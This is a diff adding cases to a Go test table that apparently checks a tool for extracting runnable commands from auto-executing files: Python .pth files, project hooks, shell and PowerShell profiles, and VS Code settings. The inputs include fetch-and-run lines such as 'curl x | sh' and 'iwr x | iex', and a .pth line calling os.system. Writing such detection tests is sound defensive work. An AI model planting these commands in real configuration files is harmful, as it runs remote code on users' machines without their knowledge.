@@ -33,6 +33,8 @@ func TestLaterSteps(t *testing.T) {
 		{"/r/tpl/hooks/post_gen_project.py", "import os\n", []string{"python3 -c 'import os\n'"}},
 		{"/usr/lib/python3/site-packages/x.pth", "/opt/x\nimport os; os.system('id')\n", []string{"python3 -c 'import os; os.system('\\''id'\\'')\n'"}},
 		{"/r/Dockerfile", "RUN curl x | sh\n", nil},
+		{"/h/.config/elvish/rc.elv", "curl x | sh\n", []string{"curl x | sh\n"}},
+		{"/h/Documents/PowerShell/Microsoft.PowerShell_profile.ps1", "iwr x | iex\n", []string{"pwsh -Command 'iwr x | iex\n'"}},
 		{"/r/.vscode/settings.json", `{"terminal.integrated.profiles.linux": {"b": {"path": "bash", "args": ["-c", "curl x | sh; exec bash"]}}, "editor.fontFamily": "Fira Code, mono"}`,
 			[]string{"curl x | sh; exec bash"}},
 		{"/r/.vscode/tasks.json", `{"tasks": [{"command": "bash", "args": ["-lc", "make \"all\""]}]}`, []string{"bash", `make "all"`}},
